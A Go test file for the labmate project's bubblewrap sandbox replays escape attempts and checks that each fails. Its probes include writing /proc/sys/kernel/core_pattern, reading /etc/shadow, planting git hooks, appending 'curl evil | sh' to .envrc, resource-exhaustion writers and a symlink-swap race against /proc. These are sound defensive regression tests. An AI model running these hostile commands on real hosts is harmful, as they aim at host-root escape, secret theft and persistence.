package sandbox

// The attacks of issue 16 against the bubblewrap sandbox, each of which must now fail to do
// harm. Where a control is possible, ModeNone runs the same code and must succeed: it shows
// that the attack is real and the test could fail.

import (
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/labmate/labmate/kernel"
)

// hostDir makes a directory outside /tmp (which the sandbox replaces with its own anyway), on
// the host's disk, like a user's directory or labmate's data directory.
func hostDir(t testing.TB) string {
	t.Helper()
	wd, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	d, err := os.MkdirTemp(wd, ".sandbox-test-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(d) })
	return d
}

func writeFile(t testing.TB, path, body string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
}

// probeScript is a shell script that runs each of probes (name, command) and prints
// "name: yes" when the command succeeded, "name: no" when it failed.
func probeScript(probes [][2]string) string {
	var b strings.Builder
	b.WriteString("try() { if eval \"$2\" >/dev/null 2>&1; then echo \"$1: yes\"; else echo \"$1: no\"; fi; }\n")
	for _, p := range probes {
		fmt.Fprintf(&b, "try %s %s\n", shellQuote(p[0]), shellQuote(p[1]))
	}
	return b.String()
}

func answers(probes [][2]string, answer string) []string {
	var out []string
	for _, p := range probes {
		out = append(out, p[0]+": "+answer)
	}
	return out
}

// TestCorePattern is the escape to host root: as root, bwrap used to leave /proc/sys writable,
// and a cell set kernel.core_pattern to a program of its own, which the kernel then ran as host
// root. The host's value must be unchanged whatever happens.
func TestCorePattern(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("only root can write /proc/sys on the host")
	}
	files := []string{"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/proc/sys/fs/binfmt_misc/register"}
	before := map[string]string{}
	for _, f := range files {
		if b, err := os.ReadFile(f); err == nil {
			before[f] = string(b)
		}
	}
	t.Cleanup(func() {
		for f, v := range before {
			if b, err := os.ReadFile(f); err == nil && string(b) != v {
				t.Errorf("%s was changed to %q; restoring %q", f, b, v)
				if err := os.WriteFile(f, []byte(v), 0); err != nil {
					t.Errorf("RESTORING %s FAILED: %v", f, err)
				}
			}
		}
	})
	var probes [][2]string
	for _, f := range files {
		if _, err := os.Lstat(f); err == nil || f == "/proc/sys/kernel/core_pattern" {
			probes = append(probes, [2]string{"write " + f, "printf labmate-test-core > " + f})
		}
	}
	probes = append(probes,
		[2]string{"remount /proc/sys", "mount -o remount,rw /proc/sys"},
		[2]string{"mount a new proc", "mkdir -p /tmp/p && mount -t proc proc /tmp/p && printf x > /tmp/p/sys/kernel/core_pattern"},
		[2]string{"nested user namespace", "unshare -Ur true"},
	)
	s := newSandbox(t, ModeBubblewrap, nil)
	lines, stderr, err := output(t, s, []string{"/bin/sh", "-c", probeScript(probes)}, testEnv(), t.TempDir())
	if err != nil {
		t.Fatalf("%v: %s", err, stderr)
	}
	if diff := cmp.Diff(answers(probes, "no"), lines); diff != "" {
		t.Errorf("inside the sandbox (-want +got):\n%s", diff)
	}
	for f, v := range before {
		if b, _ := os.ReadFile(f); string(b) != v {
			t.Errorf("%s is now %q (was %q)", f, b, v)
		}
	}
}

// TestHostSecrets checks that a cell cannot read the host's secrets, labmate's data directory,
// another session's workspace or the host's homes, runtime and state directories — while the
// same reads work outside the sandbox.
func TestHostSecrets(t *testing.T) {
	data := hostDir(t) // stands in for labmate's data directory
	writeFile(t, filepath.Join(data, "memory.db"), "SQLite format 3\n")
	ws := filepath.Join(data, "workspaces", "session-1")
	other := filepath.Join(data, "workspaces", "session-2")
	writeFile(t, filepath.Join(ws, "mine.txt"), "mine\n")
	writeFile(t, filepath.Join(other, "notes.txt"), "another session's notes\n")
	// A user workspace that contains labmate's data (exec in $HOME): hidden by Policy.Hide.
	user := hostDir(t)
	hidden := filepath.Join(user, ".local", "share", "labmate")
	writeFile(t, filepath.Join(hidden, "memory.db"), "SQLite format 3\n")
	writeFile(t, filepath.Join(user, "config.yaml"), "hidden too\n")

	probes := [][2]string{
		{"read data/memory.db", "cat " + filepath.Join(data, "memory.db")},
		{"read another workspace", "cat " + filepath.Join(other, "notes.txt")},
		{"list the workspaces", "ls " + filepath.Join(data, "workspaces") + " | grep -q session-2"},
		{"list /home", "test -d /home"},
		{"list /run", "test -d /run"},
		{"list /var/lib", "test -d /var/lib"},
		{"list /srv /mnt /media", "test -d /srv || test -d /mnt || test -d /media"},
		{"see the cgroup filesystem", "test -d /sys/fs/cgroup"},
		{"read /proc/keys", "test -s /proc/keys"},
	}
	if os.Geteuid() == 0 {
		secret := "/root/labmate-test-" + unique()
		writeFile(t, secret, "root's secret\n")
		t.Cleanup(func() { os.Remove(secret) })
		probes = append(probes,
			[2]string{"read /etc/shadow", "grep -q root /etc/shadow"},
			[2]string{"read /root", "cat " + secret},
		)
	}
	inWs := [][2]string{
		{"read the hidden data directory", "cat " + filepath.Join(hidden, "memory.db")},
		{"read the hidden file", "cat " + filepath.Join(user, "config.yaml")},
		{"write into the hidden data directory", "echo x > " + filepath.Join(hidden, "planted")},
	}
	policy := &Policy{Hide: []string{hidden, filepath.Join(user, "config.yaml")}}
	for _, tc := range []struct {
		mode   Mode
		answer string
	}{{ModeBubblewrap, "no"}, {ModeNone, "yes"}} {
		t.Run(string(tc.mode), func(t *testing.T) {
			s := newSandbox(t, tc.mode, policy)
			check := probes
			if tc.mode == ModeNone { // the control: what exists on this host
				check = nil
				for _, p := range probes {
					switch p[0] {
					case "list /srv /mnt /media", "read /proc/keys", "list /run", "list /var/lib", "list /home":
					default:
						check = append(check, p)
					}
				}
			}
			lines, stderr, err := output(t, s, []string{"/bin/sh", "-c", probeScript(check) + "cat mine.txt"}, testEnv(), ws)
			if err != nil {
				t.Fatalf("%v: %s", err, stderr)
			}
			want := answers(check, tc.answer)
			if tc.mode == ModeNone && os.Geteuid() == 0 {
				// As root even ModeNone runs code as the sandbox's account: root's files and the
				// data directory (only root may enter it; the workspace is bound back alone) are
				// out of its reach; the cgroup filesystem is not hidden.
				for i, p := range check {
					if p[0] != "see the cgroup filesystem" {
						want[i] = p[0] + ": no"
					}
				}
			}
			if diff := cmp.Diff(append(want, "mine"), lines); diff != "" {
				t.Errorf("in the workspace of session-1 (-want +got):\n%s", diff)
			}
			if tc.mode == ModeBubblewrap {
				lines, stderr, err = output(t, s, []string{"/bin/sh", "-c", probeScript(inWs)}, testEnv(), user)
				if err != nil {
					t.Fatalf("%v: %s", err, stderr)
				}
				if diff := cmp.Diff(answers(inWs, "no"), lines); diff != "" {
					t.Errorf("in a user workspace holding labmate's data (-want +got):\n%s", diff)
				}
			}
		})
	}
	if _, err := os.Stat(filepath.Join(hidden, "planted")); err == nil {
		t.Error("a file was planted in the hidden data directory")
	}
}

// TestUnixSockets checks that host services listening on unix sockets — a path under /run (as a
// local PostgreSQL does) and an abstract socket — are out of reach.
func TestUnixSockets(t *testing.T) {
	u := unique()
	dir := "/run"
	if os.Geteuid() != 0 {
		dir = os.Getenv("XDG_RUNTIME_DIR")
		if dir == "" {
			t.Skip("not root and no XDG_RUNTIME_DIR: nowhere like /run to listen")
		}
	}
	path := filepath.Join(dir, "labmate-test-"+u+".sock")
	serve := func(addr string) {
		ln, err := net.Listen("unix", addr)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { ln.Close(); os.Remove(path) })
		go func() {
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				c.Write([]byte("hello\n"))
				c.Close()
			}
		}()
	}
	serve(path)
	serve("@labmate-test-" + u)
	code := fmt.Sprintf(`
import socket
for name, addr in (("path", %q), ("abstract", "\0labmate-test-%s")):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(2)
    try:
        s.connect(addr)
        print(name, "connected:", s.recv(10).decode().strip())
    except OSError as e:
        print(name, "blocked")
`, path, u)
	// The control: ModeNone isolates nothing, but as root its code is the sandbox's account,
	// which may not write to root's socket.
	control := []string{"path connected: hello", "abstract connected: hello"}
	if os.Geteuid() == 0 {
		control[0] = "path blocked"
	}
	for _, tc := range []struct {
		mode    Mode
		network bool
		want    []string
	}{
		{ModeBubblewrap, false, []string{"path blocked", "abstract blocked"}},
		{ModeNone, false, control},
	} {
		t.Run(string(tc.mode), func(t *testing.T) {
			s := newSandbox(t, tc.mode, &Policy{Network: tc.network})
			lines, stderr, err := output(t, s, []string{python, "-c", code}, testEnv(), t.TempDir())
			if err != nil {
				t.Fatalf("%v: %s", err, stderr)
			}
			if diff := cmp.Diff(tc.want, lines); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
	// With Policy.Network the sandbox shares the host's network namespace, and abstract
	// sockets belong to it: only the path is out of reach then (documented).
	s := newSandbox(t, ModeBubblewrap, &Policy{Network: true})
	lines, _, _ := output(t, s, []string{python, "-c", code}, testEnv(), t.TempDir())
	if len(lines) == 0 || lines[0] != "path blocked" {
		t.Errorf("with network: %q; want the path socket blocked", lines)
	}
	t.Logf("with Policy.Network: %q", lines)
}

// TestDotEntries checks that a cell cannot plant a git hook or change the configuration files
// of a user directory used as its workspace.
func TestDotEntries(t *testing.T) {
	ws := hostDir(t)
	if git, err := exec.LookPath("git"); err == nil {
		if out, err := exec.Command(git, "init", "-q", ws).CombinedOutput(); err != nil {
			t.Fatalf("git init: %v: %s", err, out)
		}
	} else {
		writeFile(t, filepath.Join(ws, ".git", "config"), "[core]\n")
		os.MkdirAll(filepath.Join(ws, ".git", "hooks"), 0o755)
	}
	writeFile(t, filepath.Join(ws, ".vscode", "settings.json"), "{}\n")
	writeFile(t, filepath.Join(ws, ".envrc"), "export A=1\n")
	writeFile(t, filepath.Join(ws, ".bashrc"), "# mine\n")
	writeFile(t, filepath.Join(ws, "code.py"), "print(1)\n")
	before := snapshot(t, ws)

	probes := [][2]string{
		{"plant .git/hooks/pre-commit", "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"},
		{"edit .git/config", "echo '[core] fsmonitor = ./evil' >> .git/config"},
		{"replace .git", "mv .git .git-old"},
		{"remove .git", "rm -rf .git"},
		{"edit .envrc", "echo 'curl evil | sh' >> .envrc"},
		{"edit .bashrc", "echo evil >> .bashrc"},
		{"edit .vscode", "echo '{\"terminal.integrated.shell.linux\": \"./evil\"}' > .vscode/settings.json"},
		{"chmod .envrc", "chmod 777 .envrc"},
	}
	allowed := [][2]string{
		{"write a file", "echo out > result.txt"},
		{"edit code", "echo 'print(2)' >> code.py"},
	}
	s := newSandbox(t, ModeBubblewrap, nil)
	lines, stderr, err := output(t, s, []string{"/bin/sh", "-c", probeScript(probes) + probeScript(allowed)}, testEnv(), ws)
	if err != nil {
		t.Fatalf("%v: %s", err, stderr)
	}
	if diff := cmp.Diff(append(answers(probes, "no"), answers(allowed, "yes")...), lines); diff != "" {
		t.Errorf("inside the sandbox (-want +got):\n%s", diff)
	}
	after := snapshot(t, ws)
	for p, v := range before {
		if strings.HasPrefix(p, ".") && after[p] != v {
			t.Errorf("%s changed: %q → %q", p, v, after[p])
		}
	}
	for p := range after {
		if _, ok := before[p]; !ok && strings.HasPrefix(p, ".") {
			t.Errorf("%s was created", p)
		}
	}
	if after["result.txt"] != "out\n" {
		t.Errorf("result.txt = %q", after["result.txt"])
	}
}

// snapshot maps each file under root (relative path) to its mode and content.
func snapshot(t *testing.T, root string) map[string]string {
	t.Helper()
	m := map[string]string{}
	filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
		if err != nil || p == root {
			return nil
		}
		rel, _ := filepath.Rel(root, p)
		v := fi.Mode().String()
		if fi.Mode().IsRegular() {
			b, _ := os.ReadFile(p)
			v = string(b)
			if strings.HasPrefix(rel, ".") {
				v = fi.Mode().String() + " " + v
			}
		}
		m[rel] = v
		return nil
	})
	return m
}

// peakMemory is the most memory cmd's cgroup has held, in bytes.
func peakMemory(t *testing.T, s *Sandbox, cmd *exec.Cmd) int64 {
	t.Helper()
	cg := cgroupOf(s, cmd)
	if cg == nil || cg.by[ctlMemory] == "" {
		t.Fatal("the command has no memory cgroup")
	}
	file := "memory.peak"
	if cg.version == 1 {
		file = "memory.max_usage_in_bytes"
	}
	b, err := os.ReadFile(filepath.Join(cg.by[ctlMemory], file))
	if err != nil {
		t.Fatal(err)
	}
	n, err := strconv.ParseInt(strings.TrimSpace(string(b)), 10, 64)
	if err != nil {
		t.Fatal(err)
	}
	return n
}

// needMemoryCgroup skips a test that needs the sandbox's memory budget enforced.
func needMemoryCgroup(t *testing.T, s *Sandbox) {
	t.Helper()
	if !s.cg.has[ctlMemory] {
		if os.Geteuid() == 0 {
			t.Fatalf("as root the memory budget must be enforced: %v", s.CheckLimits())
		}
		t.Skip("no memory cgroup for this user:", s.CheckLimits())
	}
}

// TestMemoryBudget: four children of 2.5 GB each under a 4 GiB budget took 8 GB of the host
// with RLIMIT_AS alone. Now the sandbox as a whole stays within 4 GiB: the kernel kills what
// does not fit, and Exceeded says why.
func TestMemoryBudget(t *testing.T) {
	s := newSandbox(t, ModeBubblewrap, &Policy{MemoryBytes: 4 << 30})
	needMemoryCgroup(t, s)
	const code = `
import subprocess, sys
child = "b = b'x' * (2500 * 1000 * 1000); import time; time.sleep(2)"
ps = [subprocess.Popen([sys.executable, "-c", child]) for _ in range(4)]
print(" ".join(str(p.wait()) for p in ps), flush=True)
`
	r := start(t, s, []string{python, "-c", code}, testEnv(), t.TempDir())
	lines, err := r.wait(60 * time.Second)
	if err != nil {
		t.Fatalf("%v: %s", err, r.stderr.String())
	}
	if len(lines) != 1 || !strings.Contains(lines[0], "-9") {
		t.Errorf("exit codes of the children %q; want at least one killed (-9)", lines)
	}
	peak := peakMemory(t, s, r.cmd)
	if peak > 4<<30+64<<20 {
		t.Errorf("the sandbox held %s at its peak; want at most its 4.0 GiB budget", FormatSize(peak))
	}
	over := s.Exceeded(r.cmd)
	if len(over) == 0 || !errors.Is(over[0], kernel.ErrOutOfMemory) || !strings.Contains(over[0].Error(), "out of memory: the sandbox's 4.0 GiB budget") {
		t.Errorf("Exceeded() = %v; want out of memory: the sandbox's 4.0 GiB budget…", over)
	}
	t.Logf("children %q, peak %s, %v", lines, FormatSize(peak), over)
}

// TestTmpBudget: the private /tmp was an unbounded tmpfs (3 GB written in 1 s, all of it RAM).
// Now writing 3 GB there fails with ENOSPC at the tmpfs size, under the default budget; so do
// /dev/shm, HOME (on /tmp) and the read-only root.
func TestTmpBudget(t *testing.T) {
	s := newSandbox(t, ModeBubblewrap, nil)
	needMemoryCgroup(t, s)
	// Files of 512 MiB: the 1 GiB file-size limit must not be what stops the writing.
	const code = `
import errno, os
chunk = b"x" * (1 << 20)
for path, mib in (("/tmp/big", 3000), ("/dev/shm/big", 3000), (os.environ["HOME"] + "/big", 100), ("/big", 1)):
    n = 0
    try:
        for n in range(mib):
            if n % 512 == 0:
                f = open(path + str(n // 512), "wb")
            f.write(chunk)
            f.flush()
        n = mib
        print(path, "wrote", n, "MiB")
    except OSError as e:
        print(path, errno.errorcode[e.errno], "after", round(n / 64) * 64, "MiB")
    for i in range(6):
        try:
            os.remove(path + str(i))
        except OSError:
            pass
`
	r := start(t, s, []string{python, "-c", code}, testEnv(), t.TempDir())
	lines, err := r.wait(60 * time.Second)
	if err != nil {
		t.Fatalf("%v: %s", err, r.stderr.String())
	}
	want := []string{"/tmp/big ENOSPC after 1024 MiB", "/dev/shm/big ENOSPC after 64 MiB", "/tmp/home/big wrote 100 MiB", "/big EROFS after 0 MiB"}
	if diff := cmp.Diff(want, lines); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	if peak := peakMemory(t, s, r.cmd); peak > 1<<30+256<<20 {
		t.Errorf("the sandbox held %s at its peak; want about its 1 GiB /tmp", FormatSize(peak))
	}
}

// quotaWriters are programs that write past a 64 MiB quota as fast as they can, each its own
// way, until something stops them.
var quotaWriters = map[string]string{
	// 1 MiB writes into 16 MiB files.
	"write": `
import itertools
chunk = b"x" * (1 << 20)
for i in itertools.count():
    with open("out%d.bin" % i, "wb") as f:
        for _ in range(16):
            f.write(chunk)
`,
	// posix_fallocate of 32 MiB files: 6 GB in 0.2 s before, when fallocate allocated blocks
	// without writing them; glibc now falls back to writing a byte in every block.
	"fallocate": `
import itertools, os
for i in itertools.count():
    fd = os.open("out%d.bin" % i, os.O_WRONLY | os.O_CREAT, 0o644)
    os.posix_fallocate(fd, 0, 32 << 20)
    os.close(fd)
`,
	// Many small files in many directories.
	"files": `
import itertools, os
chunk = b"x" * 8192
for d in itertools.count():
    os.mkdir("d%d" % d)
    for i in range(1000):
        with open("d%d/f%d" % (d, i), "wb") as f:
            f.write(chunk)
`,
}

// TestQuota: the quota was a stopwatch — a watchdog walked the workspace every 50 ms and the
// code wrote on for 3 s after a breach, fallocate allocated 6 GB in 0.2 s before the first walk.
// Now the sandbox's unwritten page cache counts between walks, fallocate is refused, and a
// breach makes every write fail at once: whatever the way of writing, the workspace grows by at
// most the quota and 64 MiB.
func TestQuota(t *testing.T) {
	s := newSandbox(t, ModeBubblewrap, &Policy{DiskBytes: 64 << 20})
	if s.cg == nil || len(s.cg.parents) == 0 {
		t.Skip("no cgroup here: the quota cannot stop the sandbox's processes")
	}
	for name, code := range quotaWriters {
		t.Run(name, func(t *testing.T) {
			ws := hostDir(t)
			writeFile(t, filepath.Join(ws, "before.bin"), strings.Repeat("x", 100<<20)) // not counted: there before
			before := allocated(ws, nil)
			begin := time.Now()
			r := start(t, s, []string{python, "-c", code}, testEnv(), ws)
			_, err := r.wait(60 * time.Second)
			took := time.Since(begin)
			if err == nil || !strings.Contains(r.stderr.String(), "File too large") {
				t.Errorf("the writer ended with %v: %s; want it stopped by OSError: File too large", err, tail(r.stderr.String()))
			}
			over := s.Exceeded(r.cmd)
			if len(over) == 0 || !errors.Is(over[0], kernel.ErrQuota) || !strings.Contains(over[0].Error(), "of 64 MiB written to the workspace "+ws) {
				t.Errorf("Exceeded() = %v; want the breach", over)
			}
			written := allocated(ws, nil) - before
			if written > 128<<20 {
				t.Errorf("%s written past a 64 MiB quota; want at most 64 MiB more", FormatSize(written))
			}
			t.Logf("stopped after %v, %s written", took.Round(time.Millisecond), FormatSize(written))
		})
	}
}

// tail is the end of a program's error output.
func tail(s string) string {
	if len(s) > 300 {
		return "…" + s[len(s)-300:]
	}
	return s
}

// TestAllocated checks what the quota counts: allocated blocks, each inode once, not the
// read-only subtrees.
func TestAllocated(t *testing.T) {
	ws := hostDir(t)
	base := allocated(ws, nil)
	writeFile(t, filepath.Join(ws, "a"), strings.Repeat("x", 1<<20))
	if err := os.Link(filepath.Join(ws, "a"), filepath.Join(ws, "b")); err != nil {
		t.Fatal(err)
	}
	f, err := os.Create(filepath.Join(ws, "sparse"))
	if err != nil {
		t.Fatal(err)
	}
	f.Truncate(1 << 30)
	f.Close()
	writeFile(t, filepath.Join(ws, ".git", "objects", "x"), strings.Repeat("y", 1<<20))
	got := allocated(ws, map[string]bool{filepath.Join(ws, ".git"): true}) - base
	if got < 1<<20 || got > 1<<20+64<<10 {
		t.Errorf("allocated = %d; want 1 MiB (a hard link counted once, a hole not at all, .git skipped)", got)
	}
}

// BenchmarkQuotaWalk measures one measurement of a workspace of 1,000 and 10,000 files.
func BenchmarkQuotaWalk(b *testing.B) {
	for _, n := range []int{1000, 10000} {
		b.Run(strconv.Itoa(n), func(b *testing.B) {
			ws := b.TempDir()
			for i := range n {
				dir := filepath.Join(ws, strconv.Itoa(i/100))
				if i%100 == 0 {
					os.Mkdir(dir, 0o755)
				}
				os.WriteFile(filepath.Join(dir, strconv.Itoa(i)), []byte("x"), 0o644)
			}
			for b.Loop() {
				allocated(ws, nil)
			}
		})
	}
}

// TestScientificCodes checks that the minimal sandbox has what Debian's scientific codes need:
// Python's multiprocessing (semaphores in /dev/shm), OpenMPI (hwloc reads the CPU topology, no --allow-run-as-root as uid 1000), Quantum ESPRESSO
// and LAMMPS with their data under /usr/share. Codes that are not installed are skipped.
func TestScientificCodes(t *testing.T) {
	s := newSandbox(t, ModeBubblewrap, nil)
	for _, tc := range []struct {
		name, bin, input, cmd, want string
	}{
		{"multiprocessing", python, "import multiprocessing as mp\nif __name__ == '__main__':\n    with mp.Pool(2) as p:\n        print(sum(p.map(abs, range(-10, 0))))\n",
			python + " input 2>&1", "55"},
		{"mpirun", "mpirun", "", "mpirun -np 2 /bin/echo rank 2>&1", "rank\nrank"},
		{"pw.x", "pw.x", `&control
  calculation='scf', pseudo_dir='/usr/share/espresso/pseudo', outdir='./tmp'
/
&system
  ibrav=2, celldm(1)=10.2, nat=2, ntyp=1, ecutwfc=12
/
&electrons
/
ATOMIC_SPECIES
 Si 28.086 Si.pz-vbc.UPF
ATOMIC_POSITIONS alat
 Si 0.00 0.00 0.00
 Si 0.25 0.25 0.25
K_POINTS automatic
 2 2 2 0 0 0
`, "mpirun -np 2 pw.x -in input 2>&1 | grep -o 'convergence has been achieved'", "convergence has been achieved"},
		{"lmp", "lmp", `units metal
atom_style atomic
lattice fcc 3.615
region box block 0 3 0 3 0 3
create_box 1 box
create_atoms 1 box
pair_style eam
pair_coeff 1 1 /usr/share/lammps/potentials/Cu_u3.eam
run 0
`, "lmp -in input 2>&1 | grep -c '^Total wall time'", "1"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if _, err := exec.LookPath(tc.bin); err != nil {
				t.Skipf("%s is not installed", tc.bin)
			}
			ws := t.TempDir()
			writeFile(t, filepath.Join(ws, "input"), tc.input)
			r := start(t, s, []string{"/bin/sh", "-c", tc.cmd}, testEnv(), ws)
			lines, err := r.wait(time.Minute)
			if err != nil || strings.Join(lines, "\n") != tc.want {
				t.Errorf("%s: %q, %v; want %q\nstderr: %s", tc.cmd, lines, err, tc.want, r.stderr.String())
			}
		})
	}
}

// BenchmarkQuotaHostCPU measures what the quota costs the host for a workspace of 300,000
// files while the sandbox keeps a core busy for 5 s: labmate's CPU time over the wall time
// (a share of one core), and the walk's own time. A workspace of 286k files used to cost 16 s
// of CPU and 228 MB outside the sandbox's budget.
func BenchmarkQuotaHostCPU(b *testing.B) {
	s := newSandbox(b, ModeBubblewrap, &Policy{DiskBytes: 1 << 30})
	ws := hostDir(b)
	for d := range 300 {
		dir := filepath.Join(ws, strconv.Itoa(d))
		if err := os.Mkdir(dir, 0o755); err != nil {
			b.Fatal(err)
		}
		for i := range 1000 {
			if err := os.WriteFile(filepath.Join(dir, strconv.Itoa(i)), nil, 0o644); err != nil {
				b.Fatal(err)
			}
		}
	}
	begin := time.Now()
	allocated(ws, nil)
	walk := time.Since(begin)
	for b.Loop() {
		cmd, err := s.Command([]string{python, "-c", "import time\nt = time.time()\nwhile time.time() - t < 5: pass"}, testEnv(), ws)
		if err != nil {
			b.Fatal(err)
		}
		var before, after syscall.Rusage
		syscall.Getrusage(syscall.RUSAGE_SELF, &before)
		start := time.Now()
		if err := run(s, cmd); err != nil {
			b.Fatal(err)
		}
		wall := time.Since(start)
		syscall.Getrusage(syscall.RUSAGE_SELF, &after)
		s.Kill(cmd)
		cpu := time.Duration(after.Utime.Nano() + after.Stime.Nano() - before.Utime.Nano() - before.Stime.Nano())
		b.ReportMetric(float64(cpu)/float64(wall), "host-core-share")
		b.ReportMetric(walk.Seconds(), "walk-s")
		b.ReportMetric(float64(after.Maxrss)/1024, "maxrss-MiB")
	}
}

// emptyFiles makes up to 300 000 empty files, 1000 to a directory, and prints how many it made
// when something stops it.
const emptyFiles = `
import os, sys
n = 0
try:
    for d in range(300):
        os.mkdir("e%d" % d)
        for i in range(1000):
            os.close(os.open("e%d/%d" % (d, i), os.O_WRONLY | os.O_CREAT, 0o644))
            n += 1
finally:
    print(n, flush=True)
`

// TestQuotaEmptyFiles: empty files allocate no blocks, so 300 000 of them were free under any
// quota, and walking them cost the host seconds of CPU. Now each inode costs InodeBytes, the
// filesystem's growth calls for a walk between the scheduled ones, and a sandbox that still
// makes files after the breach (no file-size limit stops creat) is killed: against a 64 MiB
// quota it makes at most 64 MiB more worth of inodes, and the host's watchdog stays cheap.
func TestQuotaEmptyFiles(t *testing.T) {
	s := newSandbox(t, ModeBubblewrap, &Policy{DiskBytes: 64 << 20})
	if s.cg == nil || len(s.cg.parents) == 0 {
		t.Skip("no cgroup here: the quota cannot stop the sandbox's processes")
	}
	ws := hostDir(t)
	before := allocated(ws, nil)
	var ru0, ru1 syscall.Rusage
	syscall.Getrusage(syscall.RUSAGE_SELF, &ru0)
	begin := time.Now()
	r := start(t, s, []string{python, "-c", emptyFiles}, testEnv(), ws)
	lines, err := r.wait(2 * time.Minute)
	wall := time.Since(begin)
	syscall.Getrusage(syscall.RUSAGE_SELF, &ru1)
	cpu := time.Duration(ru1.Utime.Nano() + ru1.Stime.Nano() - ru0.Utime.Nano() - ru0.Stime.Nano())
	over := s.Exceeded(r.cmd)
	if err == nil || len(over) == 0 || !errors.Is(over[0], kernel.ErrQuota) {
		t.Errorf("the file maker ended with %v (%q), Exceeded() = %v; want it stopped at the quota", err, lines, over)
	}
	grown := allocated(ws, nil) - before
	if grown > 128<<20 {
		t.Errorf("the workspace grew by %s (%d inodes' worth) past a 64 MiB quota; want at most 64 MiB more", FormatSize(grown), grown/InodeBytes)
	}
	if share := float64(cpu) / float64(wall); share > 0.5 {
		t.Errorf("the host spent %v of CPU in %v (%.2f of a core) watching the workspace", cpu, wall, share)
	}
	t.Logf("stopped after %v with %s charged (%d inodes' worth); host CPU %v (%.3f of a core); %v", wall.Round(time.Millisecond), FormatSize(grown), grown/InodeBytes, cpu.Round(time.Millisecond), float64(cpu)/float64(wall), over)
}

// TestAttackDotEntrySwap: code in a workspace (a job's, another kernel's) creates a top-level
// dot-directory and keeps swapping it with a relative symbolic link that climbs to the root
// and names /proc. A command started in that workspace lists the directory as a dot-entry to
// mount read-only; bwrap used to bind it by its path, following the link by then, and mounted
// the host's /proc (or the user's home, or any host directory whose path also exists in the
// sandbox) over the sandbox's: the host's processes, their command lines and network state
// were in view. The entry must be bound as it was listed (by a descriptor), or not at all.
func TestAttackDotEntrySwap(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("hole: as an ordinary user only bwrap can mount, and it binds a dot-entry by its path (realpath(3), even for --ro-bind-fd): a swap can still win (package doc, on dot-entries)")
	}
	count := "ls /proc | grep -c '^[0-9]'"
	s := newSandbox(t, ModeBubblewrap, &Policy{})
	// hostProcs fails the test when argv's run in ws saw more processes than a sandbox has.
	hostProcs := func(t *testing.T, lines []string) bool {
		t.Helper()
		if len(lines) == 0 {
			return false
		}
		n, err := strconv.Atoi(lines[len(lines)-1])
		if err != nil {
			t.Fatalf("not a count: %q", lines)
		}
		return n > 20
	}
	t.Run("BetweenCommandAndStart", func(t *testing.T) {
		ws := hostDir(t)
		if err := os.Mkdir(filepath.Join(ws, ".x"), 0o755); err != nil {
			t.Fatal(err)
		}
		cmd, err := s.Command([]string{"/bin/sh", "-c", count}, testEnv(), ws)
		if err != nil {
			t.Fatal(err)
		}
		// The swap the racing code wins: after the listing, before the bind.
		if err := os.Remove(filepath.Join(ws, ".x")); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(strings.Repeat("../", strings.Count(ws, "/"))+"proc", filepath.Join(ws, ".x")); err != nil {
			t.Fatal(err)
		}
		var out strings.Builder
		cmd.Stdout = &out
		if err := s.Start(cmd); err != nil {
			if !strings.Contains(err.Error(), ".x") {
				t.Errorf("the refusal does not name the entry: %v", err)
			}
			s.Kill(cmd)
			return
		}
		_ = cmd.Wait()
		s.Kill(cmd)
		if hostProcs(t, strings.Fields(out.String())) {
			t.Errorf("the sandbox saw the host's /proc through the swapped dot-entry: %s processes", out.String())
		}
	})
	t.Run("Race", func(t *testing.T) {
		ws := hostDir(t)
		swapper := fmt.Sprintf(`import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
os.mkdir(".x")
os.symlink(%q, ".y")
print("ready", flush=True)
while True:
    libc.renameat2(-100, b".x", -100, b".y", 2)  # RENAME_EXCHANGE
`, strings.Repeat("../", strings.Count(ws, "/"))+"proc")
		r := start(t, s, []string{python, "-c", swapper}, testEnv(), ws)
		r.expect("ready", 10*time.Second)
		leaks, refused := 0, 0
		for i := 0; i < 40; i++ {
			cmd, err := s.Command([]string{"/bin/sh", "-c", count}, testEnv(), ws)
			if err != nil {
				t.Fatal(err)
			}
			var out strings.Builder
			cmd.Stdout = &out
			if err := s.Start(cmd); err != nil {
				refused++
				s.Kill(cmd)
				continue
			}
			_ = cmd.Wait()
			s.Kill(cmd)
			if hostProcs(t, strings.Fields(out.String())) {
				leaks++
			}
		}
		t.Logf("40 starts beside the swapper: %d saw the host's /proc, %d refused", leaks, refused)
		if leaks > 0 {
			t.Errorf("%d of 40 commands saw the host's /proc through a dot-entry swapped for a symlink", leaks)
		}
	})
	t.Run("StillReadOnlyBridged", func(t *testing.T) {
		// A workspace below a directory only root may enter is bridged into the command's mount
		// namespace: a dot-entry bound by a descriptor of the host's is still there, read-only.
		ws := t.TempDir()
		writeFile(t, filepath.Join(ws, ".envrc"), "export A=1\n")
		lines, stderr, err := output(t, s, []string{"/bin/sh", "-c", "cat .envrc; echo evil >> .envrc || echo refused"}, testEnv(), ws)
		if err != nil {
			t.Fatalf("%v: %s", err, stderr)
		}
		if diff := cmp.Diff([]string{"export A=1", "refused"}, lines); diff != "" {
			t.Errorf("(-want +got):\n%s", diff)
		}
	})
}
